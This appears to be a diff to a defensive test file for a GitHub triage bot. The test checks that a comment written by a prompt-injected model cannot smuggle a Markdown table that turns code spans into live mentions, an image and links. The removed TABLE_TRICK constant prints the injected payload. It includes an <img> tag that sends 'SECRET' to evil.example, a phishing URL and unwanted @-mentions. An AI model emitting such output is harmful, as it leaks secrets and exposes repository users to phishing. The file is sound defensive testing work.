@@ -7,6 +7,7 @@ import {
   mockInstallationToken,
   mockRepoConfig,
 } from "../helpers/github-mocks.js";
+import { gfmDelimiterRows, TABLE_TRICK } from "../helpers/gfm-tables.js";
 import { scriptedModel } from "../helpers/scripted-model.js";
 import { createTestApp } from "../helpers/test-app.js";
 import { webhookExample } from "../helpers/webhook-examples.js";
@@ -18,20 +19,8 @@ import { webhookExample } from "../helpers/webhook-examples.js";
  * or of HTML (`@octocat|x`) is read as Markdown: a live mention, an <img> from any host. Found
  * by a review; the writer's cases are in test/markdown/to-safe-markdown.test.ts.
  */
-const GFM_TABLE_START = /^\|?[ \t]*:?-+:?[ \t]*(?:\|[ \t]*:?-+:?[ \t]*)*\|?[ \t]*$/;
 
 const REPO = "/repos/Codertocat/Hello-World";
-
-// The answer a prompt-injected model is told to give.
-const TABLE_TRICK = [
-  "Steps",
-  ":-:",
-  "@octocat|x",
-  "@github/security-team|x",
-  '`<img src="https://evil.example/t.png?d=SECRET">|x`',
-  "https://evil.example/phish|x",
-  "other/repo#1|x",
-].join("\n");
 
 describe("a triage comment written by a prompt-injected model", () => {
   it("cannot carry a GitHub table that turns its code spans into live mentions and HTML", async () => {
@@ -61,7 +50,7 @@ describe("a triage comment written by a prompt-injected model", () => {
     expect(scope.pendingMocks()).toEqual([]);
     expect(posted).toHaveLength(1);
     const body = posted[0]!;
-    expect(body.split("\n").filter((line) => GFM_TABLE_START.test(line))).toEqual([]);
+    expect(gfmDelimiterRows(body)).toEqual([]);
     const reply = body.slice(0, body.lastIndexOf("\n\n<!-- talos:"));
     expect(checkSafeMarkdown(reply, { repo: "Codertocat/Hello-World", references: [1] })).toEqual(
       [],
